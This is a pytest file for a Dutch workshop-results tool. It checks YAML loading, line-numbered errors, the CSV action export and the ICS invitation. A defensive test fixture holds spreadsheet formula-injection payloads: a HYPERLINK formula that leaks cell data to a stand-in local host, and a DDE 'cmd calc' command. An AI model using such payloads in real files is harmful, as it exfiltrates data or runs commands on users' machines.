"""resultaten.yaml: loading, line-numbered errors, init text, acties.csv and the ICS invitation."""

from __future__ import annotations

import csv
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from icalendar import Calendar

from codio_print.inputs.content import load_content
from codio_print.errors import CodioError, ContentError
from codio_print.results.exports import CSV_HEADER, write_actions_csv, write_ics
from codio_print.results.load import load_results
from codio_print.results.models import Results, by_priority, priority
from codio_print.results.template import init_text

SAMPLE = Path(__file__).parent.parent / "data" / "resultaten-arnhem.yaml"


@pytest.fixture(scope="module")
def content():
    return load_content()


@pytest.fixture(scope="module")
def sample(content) -> Results:
    return load_results(SAMPLE, content)


def _line(text: str, needle: str, nth: int = 0) -> int:
    """1-based line of the ``nth`` line containing ``needle``."""
    hits = [i for i, line in enumerate(text.splitlines(), 1) if needle in line]
    assert len(hits) > nth, needle
    return hits[nth]


def _variant(tmp_path: Path, old: str, new: str) -> tuple[Path, str]:
    text = SAMPLE.read_text(encoding="utf-8")
    assert text.count(old) == 1, old
    text = text.replace(old, new)
    path = tmp_path / "resultaten.yaml"
    path.write_text(text, encoding="utf-8")
    return path, text


def _error(path: Path, content) -> ContentError:
    with pytest.raises(ContentError) as info:
        load_results(path, content)
    return info.value


# --- the sample -----------------------------------------------------------------------------

def test_sample_loads(sample):
    s = sample.sessie
    assert s.casus == "arnhem"
    assert s.datum == date(2027, 3, 11) and s.start == time(9, 30)
    assert [g.fundament for g in s.groepen] == ["democratie", "rechtsstaat", "bestuurskracht"]
    assert all(4 <= len(g.leden) <= 5 for g in s.groepen)
    assert set(sample.waarden) == {"democratie", "rechtsstaat", "bestuurskracht"}
    assert all(gw.gekozen and gw.niet_gekozen for gw in sample.waarden.values())
    assert len(sample.acties) == 12
    assert {a.groep for a in sample.acties} == {"democratie", "rechtsstaat", "bestuurskracht"}
    assert len(sample.spanningen) == 2
    assert sample.stap4.termijn and sample.stap4.handhaver
    assert sample.stap4.uitdragen and sample.stap4.bijstellen
    assert sample.checklist and sample.breder_inzetbaar
    assert sample.parkeerplaats and sample.reflectie
    v = sample.vervolg
    assert v.datum == date(2027, 6, 17) and v.tijd == time(14, 0) and v.duur_minuten == 90
    assert sample.path == SAMPLE


def test_a_date_as_termijn_stays_text(sample):
    a5 = next(a for a in sample.acties if a.id == "B1")
    assert a5.termijn == "2027-04-15"


def test_priority_orders_noodzaak_before_belang(sample):
    order = by_priority(sample)
    keys = [priority(a) for a in order]
    assert keys == sorted(keys)
    assert order[0].noodzaak == "hoog" and order[0].belang == "hoog"
    assert order[-1].noodzaak == "laag"
    # midden/hoog (4) comes after hoog/midden (2): noodzaak weighs first
    a2 = next(a for a in sample.acties if a.id == "A2")
    a3 = next(a for a in sample.acties if a.id == "A3")
    assert priority(a2) < priority(a3)
    # equal priority keeps the order of the file
    assert [a.id for a in order if priority(a) == 1] == ["A1", "B1", "C1"]


# --- init -----------------------------------------------------------------------------------

def test_init_text_loads(tmp_path, content):
    groups = {"democratie": ["Anna de Vries", "Piet: de 'Jong'"],
              "rechtsstaat": ["# niet een commentaar"], "bestuurskracht": []}
    text = init_text(content, "arnhem", date(2027, 3, 11), "09:30", groups)
    path = tmp_path / "resultaten.yaml"
    path.write_text(text, encoding="utf-8")
    results = load_results(path, content)
    assert results.sessie.casus == "arnhem"
    assert results.sessie.datum == date(2027, 3, 11)
    assert results.sessie.start == time(9, 30)
    assert [g.leden for g in results.sessie.groepen] == [
        ["Anna de Vries", "Piet: de 'Jong'"], ["# niet een commentaar"], []]
    assert results.acties == [] and results.spanningen == []
    assert set(results.waarden) == {"democratie", "rechtsstaat", "bestuurskracht"}
    assert results.checklist and not any(p.klaar for p in results.checklist)
    assert results.vervolg.datum is None
    for key in ("acties:", "spanningen:", "stap4:", "breder_inzetbaar:", "checklist:",
                "vervolg:", "parkeerplaats:", "reflectie:", "gekozen:", "niet_gekozen:"):
        assert key in text


def test_init_text_without_groups_has_one_per_fundament(tmp_path, content):
    text = init_text(content, content.case("arnhem"), date(2027, 3, 11), time(13, 0))
    path = tmp_path / "resultaten.yaml"
    path.write_text(text, encoding="utf-8")
    results = load_results(path, content)
    assert [g.fundament for g in results.sessie.groepen] == [f.id for f in content.fundamenten]
    assert results.sessie.start == time(13, 0)


def test_init_text_takes_the_tables_of_a_session(tmp_path, content):
    from types import SimpleNamespace as NS
    tables = [NS(fundament=f, names=[f"Lid {i} van {f.naam}" for i in range(1, 4)])
              for f in content.fundamenten]
    text = init_text(content, "arnhem", date(2027, 3, 11), "09:30", tables)
    path = tmp_path / "resultaten.yaml"
    path.write_text(text, encoding="utf-8")
    groepen = load_results(path, content).sessie.groepen
    assert [g.fundament for g in groepen] == [f.id for f in content.fundamenten]
    assert groepen[0].leden == ["Lid 1 van Democratie", "Lid 2 van Democratie",
                                "Lid 3 van Democratie"]


def test_init_text_can_be_filled_step_by_step(tmp_path, content):
    text = init_text(content, "arnhem", date(2027, 3, 11), "09:30")
    text = text.replace("acties: []", (
        "acties:\n"
        "  - id: A1\n"
        "    actie: Brief herschrijven\n"
        "    waarde: toegankelijkheid\n"
        "    mechanisme: burgerbetrokkenheid\n"
        "    eigenaar: Sanne\n"
        "    noodzaak: hoog\n"
        "    belang: hoog\n"
        "    groep: democratie"))
    text = text.replace("  datum:  #", "  datum: 2027-06-17  #")
    text = text.replace("  tijd:  #", "  tijd: 14:00  #")
    path = tmp_path / "resultaten.yaml"
    path.write_text(text, encoding="utf-8")
    results = load_results(path, content)
    assert results.acties[0].termijn == ""
    # an unquoted 14:00 is read by YAML as the number 840; it still means 14:00
    assert results.vervolg.tijd == time(14, 0)


# --- errors with the right line -------------------------------------------------------------

def test_unknown_value_names_its_line(tmp_path, content):
    path, text = _variant(tmp_path, "    waarde: privacy\n", "    waarde: privasy\n")
    err = _error(path, content)
    assert err.line == _line(text, "waarde: privasy")
    assert "privasy" in err.message and "privacy" in err.fix
    assert err.one_line().startswith(f"{path}:{err.line}: unknown value 'privasy'")


def test_unknown_value_in_stap2_names_its_line(tmp_path, content):
    path, text = _variant(tmp_path, "      - waarde: inspraak\n", "      - waarde: meepraten\n")
    assert _error(path, content).line == _line(text, "waarde: meepraten")


def test_unknown_mechanism_names_its_line(tmp_path, content):
    path, text = _variant(tmp_path, "    mechanisme: audits\n", "    mechanisme: controle\n")
    err = _error(path, content)
    assert err.line == _line(text, "mechanisme: controle")
    assert "mechanism 'controle'" in err.message and "audits" in err.fix


def test_missing_owner_names_the_action(tmp_path, content):
    path, text = _variant(tmp_path, "    eigenaar: Els van Dijk (consulent inkomen)\n", "")
    err = _error(path, content)
    assert err.line == _line(text, "- id: B3")
    assert "eigenaar" in err.message and "owner" in err.message


def test_missing_owner_counts_from_one_and_names_the_action_id(tmp_path, content):
    path, text = _variant(tmp_path, "    eigenaar: Els van Dijk (consulent inkomen)\n", "")
    message = _error(path, content).message
    assert "'acties[7] (B3).eigenaar' is missing" in message  # not 'acties.6.eigenaar'


def test_generic_errors_count_from_one_too(tmp_path, content):
    path, text = _variant(tmp_path, "    noodzaak: laag\n", "    noodzaak: laagste\n")
    err = _error(path, content)
    assert err.message.startswith("'acties[12] (C4).noodzaak' is 'laagste'")


@pytest.mark.parametrize("old, new, field, expected", [
    ("    waarde: privacy\n", "    waarde: Privacy\n", "waarde", "privacy"),
    ("    mechanisme: audits\n", "    mechanisme: Audits\n", "mechanisme", "audits"),
    ("    waarde: privacy\n", "    waarde: PRIVACÝ\n", "waarde", "privacy"),
])
def test_ids_of_actions_match_without_case_and_accents(tmp_path, content, old, new, field,
                                                       expected):
    path, _ = _variant(tmp_path, old, new)
    results = load_results(path, content)
    before = load_results(SAMPLE, content)
    changed = [a for a, b in zip(results.acties, before.acties) if a.model_dump() != b.model_dump()]
    assert changed == []  # read as the id itself
    assert expected in {getattr(a, field) for a in results.acties}


def test_fundament_and_stap2_ids_match_without_case(tmp_path, content):
    text = SAMPLE.read_text(encoding="utf-8")
    text = text.replace("  democratie:\n    gekozen:", "  Democratie:\n    gekozen:", 1)
    text = text.replace("      - waarde: inspraak\n", "      - waarde: Inspraak\n", 1)
    text = text.replace("    - fundament: rechtsstaat\n", "    - fundament: Rechtsstaat\n", 1)
    text = text.replace("    groep: bestuurskracht\n", "    groep: Bestuurskracht\n", 1)
    path = tmp_path / "resultaten.yaml"
    path.write_text(text, encoding="utf-8")
    assert load_results(path, content).model_dump() == load_results(SAMPLE, content).model_dump()


def test_an_unknown_value_keeps_its_error_and_choices(tmp_path, content):
    path, text = _variant(tmp_path, "    waarde: privacy\n", "    waarde: Privaat\n")
    err = _error(path, content)
    assert "unknown value 'Privaat'" in err.message and "privacy" in err.fix


def test_empty_owner_names_its_line(tmp_path, content):
    path, text = _variant(tmp_path, "    eigenaar: Bas Mulder (data-analist)\n",
                          "    eigenaar:\n")
    err = _error(path, content)
    assert err.line == _line(text, "eigenaar:", nth=9)
    assert "no owner" in err.message and "eigenaar" in err.fix


def test_bad_date_names_its_line(tmp_path, content):
    path, text = _variant(tmp_path, "  datum: 2027-06-17\n", "  datum: 17-06-2027\n")
    err = _error(path, content)
    assert err.line == _line(text, "datum: 17-06-2027")
    assert "17-06-2027" in err.message and "YYYY-MM-DD" in err.fix


def test_bad_session_date_names_its_line(tmp_path, content):
    path, text = _variant(tmp_path, "  datum: 2027-03-11\n", "  datum: 11 maart 2027\n")
    assert _error(path, content).line == _line(text, "datum: 11 maart")


def test_bad_time_names_its_line(tmp_path, content):
    path, text = _variant(tmp_path, '  tijd: "14:00"\n', '  tijd: "14 uur"\n')
    err = _error(path, content)
    assert err.line == _line(text, "tijd:")
    assert "HH:MM" in err.fix


def test_bad_unquoted_time_is_shown_as_written(tmp_path, content):
    path, text = _variant(tmp_path, '  tijd: "14:00"\n', "  tijd: 25:00\n")
    err = _error(path, content)
    assert err.line == _line(text, "tijd: 25:00") and "'25:00'" in err.message


def test_follow_up_before_session(tmp_path, content):
    path, text = _variant(tmp_path, "  datum: 2027-06-17\n", "  datum: 2026-06-17\n")
    assert _error(path, content).line == _line(text, "datum: 2026-06-17")


def test_unknown_group_of_an_action(tmp_path, content):
    path, text = _variant(tmp_path, "    mechanisme: cultuurinterventies\n"
                          "    eigenaar: Dirk Peters (teamleider Inkomen)\n"
                          "    termijn: Q4 2027\n    noodzaak: laag\n    belang: midden\n"
                          "    groep: bestuurskracht\n",
                          "    mechanisme: cultuurinterventies\n"
                          "    eigenaar: Dirk Peters (teamleider Inkomen)\n"
                          "    termijn: Q4 2027\n    noodzaak: laag\n    belang: midden\n"
                          "    groep: bestuur\n")
    lines = text.splitlines()
    assert _error(path, content).line == lines.index("    groep: bestuur") + 1


def test_unknown_case(tmp_path, content):
    path, text = _variant(tmp_path, "  casus: arnhem\n", "  casus: arnhm\n")
    err = _error(path, content)
    assert err.line == _line(text, "casus: arnhm") and "arnhem" in err.fix


def test_duplicate_action_id(tmp_path, content):
    path, text = _variant(tmp_path, "  - id: C4\n", "  - id: C3\n")
    assert _error(path, content).line == _line(text, "- id: C3", nth=1)


def test_value_both_chosen_and_not(tmp_path, content):
    path, text = _variant(tmp_path, "      - waarde: wendbaarheid\n",
                          "      - waarde: effectiviteit\n")
    assert _error(path, content).line == _line(text, "waarde: effectiviteit", nth=1)


def test_bad_level(tmp_path, content):
    path, text = _variant(tmp_path, "    noodzaak: laag\n", "    noodzaak: laagste\n")
    assert _error(path, content).line == _line(text, "noodzaak: laagste")


def test_bad_action_id(tmp_path, content):
    path, text = _variant(tmp_path, "  - id: C4\n", "  - id: 12\n")
    err = _error(path, content)
    assert err.line == _line(text, "- id: 12") and "A1" in err.fix


def test_unknown_field(tmp_path, content):
    path, text = _variant(tmp_path, "  monitor: Dirk", "  monitoor: Dirk")
    err = _error(path, content)
    assert err.line == _line(text, "monitoor:") and "monitoor" in err.message


# --- acties.csv -----------------------------------------------------------------------------

def test_actions_csv(tmp_path, sample, content):
    path = write_actions_csv(sample, content, tmp_path / "acties.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0] == CSV_HEADER
    assert rows[0] == ["id", "actie", "waarde", "mechanisme", "eigenaar", "termijn",
                       "noodzaak", "belang", "groep", "prioriteit"]
    body = rows[1:]
    assert len(body) == 12
    first = dict(zip(rows[0], body[0]))
    assert first["id"] == "A1" and first["prioriteit"] == "1"
    a4 = dict(zip(rows[0], next(r for r in body if r[0] == "A4")))
    assert a4["waarde"] == "Inclusie"
    assert a4["mechanisme"] == "Interne en externe samenwerking"
    assert a4["groep"] == "Democratie"
    assert a4["eigenaar"] == "Ingrid Bos (beleid armoede)"
    assert [int(r[-1]) for r in body] == sorted(int(r[-1]) for r in body)


FORMULAS = {  # what a hostile or careless entry can make a spreadsheet run
    ("A1", "actie"): '=HYPERLINK("http://127.0.0.1:8765/?leak="&A2,"Klik hier")',
    ("A1", "eigenaar"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("A1", "termijn"): "+31-1",
    ("A3", "eigenaar"): "-2+3",
    ("A4", "eigenaar"): "\t=1+1",
    ("B1", "eigenaar"): "\r=1+1",
}


def test_actions_csv_cells_never_start_a_formula(tmp_path, sample, content):
    acties = []
    for a in sample.acties:
        changes = {field: text for (aid, field), text in FORMULAS.items() if aid == a.id}
        acties.append(a.model_copy(update=changes))
    results = sample.model_copy(update={"acties": acties})
    path = write_actions_csv(results, content, tmp_path / "acties.csv")
    # As Excel reads it: UTF-8 with BOM, semicolons; a cell starting with = + - @ (also after
    # a tab or a carriage return) is run as a formula.
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    cells = {(r[0], field): value for r in rows[1:] for field, value in zip(rows[0], r)}
    for key, text in FORMULAS.items():
        shown = cells[key]
        assert shown.startswith("'"), (key, shown)
        assert shown[1:] == " ".join(text.split()), key  # the rest as written
    assert not [c for c in cells.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert cells[("A2", "eigenaar")] == "Sanne Verhoeven (communicatie)"  # others unchanged


def test_safe_cell():
    from codio_print.printshop.csvcells import safe_cell
    for text in ("=1+1", "+31", "-2", "@A1", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for text in ("Sanne", "", "3 mm rondom", "A-1", "'quoted", " =1"):
        assert safe_cell(text) == text


# --- vervolgsessie.ics ----------------------------------------------------------------------

def test_ics_parses_back(tmp_path, sample, content):
    path = write_ics(sample, content.case("arnhem"), tmp_path / "vervolgsessie.ics")
    cal = Calendar.from_ical(path.read_bytes())
    assert str(cal["VERSION"]) == "2.0" and cal["PRODID"]
    events = list(cal.walk("VEVENT"))
    assert len(events) == 1
    ev = events[0]
    ams = ZoneInfo("Europe/Amsterdam")
    start = ev.decoded("DTSTART")
    assert start == datetime(2027, 6, 17, 14, 0, tzinfo=ams)
    assert start.utcoffset().total_seconds() == 2 * 3600
    assert ev.decoded("DTEND") == datetime(2027, 6, 17, 15, 30, tzinfo=ams)
    assert ev["DTSTART"].params["TZID"] == "Europe/Amsterdam"
    assert ev.decoded("DTSTAMP") == datetime(2027, 3, 11, 9, 30, tzinfo=ams)
    assert "Arnhem" in str(ev["SUMMARY"])
    assert str(ev["LOCATION"]) == "Stadhuis Arnhem, vergaderzaal Rijn"
    description = str(ev["DESCRIPTION"])
    for a in sample.acties:
        assert f"- {a.id} " in description and a.eigenaar in description
    assert [tz["TZID"] for tz in cal.walk("VTIMEZONE")] == ["Europe/Amsterdam"]


def test_ics_is_rfc5545_text(tmp_path, sample, content):
    raw = write_ics(sample, content.case("arnhem"), tmp_path / "v.ics").read_bytes()
    assert raw.endswith(b"\r\n")
    lines = raw.split(b"\r\n")[:-1]
    assert all(b"\n" not in line and b"\r" not in line for line in lines)
    assert all(len(line) <= 75 for line in lines)
    assert any(line.startswith(b" ") for line in lines)  # the description is folded
    assert lines[0] == b"BEGIN:VCALENDAR" and lines[-1] == b"END:VCALENDAR"


def test_ics_is_reproducible(tmp_path, sample, content):
    case = content.case("arnhem")
    one = write_ics(sample, case, tmp_path / "a.ics").read_bytes()
    again = load_results(SAMPLE, content)
    two = write_ics(again, case, tmp_path / "b.ics").read_bytes()
    assert one == two


def test_ics_uid_depends_on_case_and_date(tmp_path, sample, content):
    case = content.case("arnhem")
    uid_one = Calendar.from_ical(write_ics(sample, case, tmp_path / "a.ics").read_bytes()) \
        .walk("VEVENT")[0]["UID"]
    path, _ = _variant(tmp_path, "  datum: 2027-03-11\n", "  datum: 2027-03-12\n")
    other = load_results(path, content)
    uid_two = Calendar.from_ical(write_ics(other, case, tmp_path / "b.ics").read_bytes()) \
        .walk("VEVENT")[0]["UID"]
    assert uid_one != uid_two


def test_ics_needs_a_follow_up_date(tmp_path, content):
    path, text = _variant(tmp_path, "  datum: 2027-06-17\n", "  datum:\n")
    results = load_results(path, content)
    with pytest.raises(CodioError) as info:
        write_ics(results, content.case("arnhem"), tmp_path / "v.ics")
    assert info.value.line == _line(text, "  datum:", nth=1)
    assert info.value.file == str(path)


def test_a_results_file_with_too_many_actions_is_one_line(tmp_path):
    """A bound on every list: 5,000 actions are refused at once, naming the line."""
    from codio_print.inputs.content import load_content
    from codio_print.errors import CodioError
    from codio_print.results.load import load_results
    from codio_print.results.models import MAX_ITEMS

    rows = "".join(f"  - id: A{i}\n    actie: x\n    waarde: privacy\n    mechanisme: audits\n"
                   f"    eigenaar: y\n    noodzaak: hoog\n    belang: hoog\n    groep: democratie\n"
                   for i in range(1, 300))
    path = tmp_path / "resultaten.yaml"
    path.write_text("sessie:\n  casus: arnhem\n  datum: 2026-12-03\n  start: \"09:30\"\n"
                    "acties:\n" + rows, encoding="utf-8")
    with pytest.raises(CodioError) as info:
        load_results(path, load_content(only_case="arnhem"))
    assert info.value.line == 5 and f"more than {MAX_ITEMS} items" in info.value.one_line()
